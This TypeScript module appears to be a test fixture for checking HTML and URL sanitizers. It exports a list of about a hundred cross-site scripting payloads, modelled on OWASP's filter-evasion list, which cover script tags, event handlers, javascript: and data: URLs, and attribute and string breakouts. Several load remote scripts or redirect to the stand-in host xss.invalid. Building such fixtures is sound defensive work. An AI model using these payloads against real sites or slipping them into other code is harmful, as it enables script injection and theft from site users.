/**
 * What runs a script where a text becomes markup, an address or a script's own text: one for each way of OWASP's list of filter
 * evasions. Each that runs opens a dialog, sets `window.ran`, or asks `xss.invalid` for something.
 */
const RUN = 'window.ran=1;alert(1)'

const TAGS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//xss.invalid/1.js></SCRIPT>`,
  `<script src="https://xss.invalid/2.js" defer></script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<<SCRIPT>${RUN}//\\<</SCRIPT>`,
  `<SCRIPT/XSS SRC="https://xss.invalid/3.js"></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\n>${RUN}</script\n>`,
  `<script>\u2028${RUN}</script>`,
  `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
]
const HANDLERS = [
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=&#119;&#105;ndow.ran=1>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>"\\>`,
  `<img src=\`x\` onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x:x onerror\u0000=${RUN}>`,
  `<img src="https://xss.invalid/pixel.gif">`,
  `<svg onload="${RUN}">`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${RUN}></style></mglyph></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<video poster=javascript:${RUN}//></video>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<div style="animation:x 1s" onanimationstart=${RUN}>x</div>`,
  `<div onmouseover="${RUN}" style="position:fixed;inset:0">x</div>`,
  `<div onpointerenter=${RUN}>x</div>`,
  `<a onmouseover=${RUN}>x</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<xss id=x tabindex=1 onfocus=${RUN}></xss>`,
]
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  ` \u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `[x](javascript:${RUN})`,
  `![x](https://xss.invalid/picture.png)`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="https://xss.invalid/x.swf">`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<base href="https://xss.invalid/">`,
  `<link rel=stylesheet href="https://xss.invalid/x.css">`,
  `<meta http-equiv=refresh content="0;url=https://xss.invalid/">`,
  `<style>@import 'https://xss.invalid/x.css';</style>`,
  `<div style="background-image:url(https://xss.invalid/b.png)">x</div>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<table background="https://xss.invalid/t.png"><tr><td>x</table>`,
]
const BREAKING_OUT = [
  `" onmouseover="${RUN}`,
  `' autofocus onfocus='${RUN}`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg/onload=${RUN}>`,
  `\`-${RUN}-\``,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\\";${RUN};//`,
  `"},"ran":(${RUN.replaceAll(';', ',')})//`,
  `;!--"<XSS>=&{()}`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  `\u202e<script>${RUN}</script>`,
  `__proto__`,
  `$&$1$\`$'<img src=x onerror=${RUN}>`,
]

export const XSS_PAYLOADS: readonly string[] = [...TAGS, ...HANDLERS, ...ADDRESSES, ...BREAKING_OUT]

/** As many of them as fit into one text; `skip`: from another one on. */
export function payloadsWithin(charsMax: number, skip = 0): string {
  let text = ''
  for (const payload of [...XSS_PAYLOADS.slice(skip), ...XSS_PAYLOADS.slice(0, skip)])
    if (text.length + payload.length < charsMax) text += ` ${payload.replace(/\s+/gu, ' ')}`
  return text.trim()
}
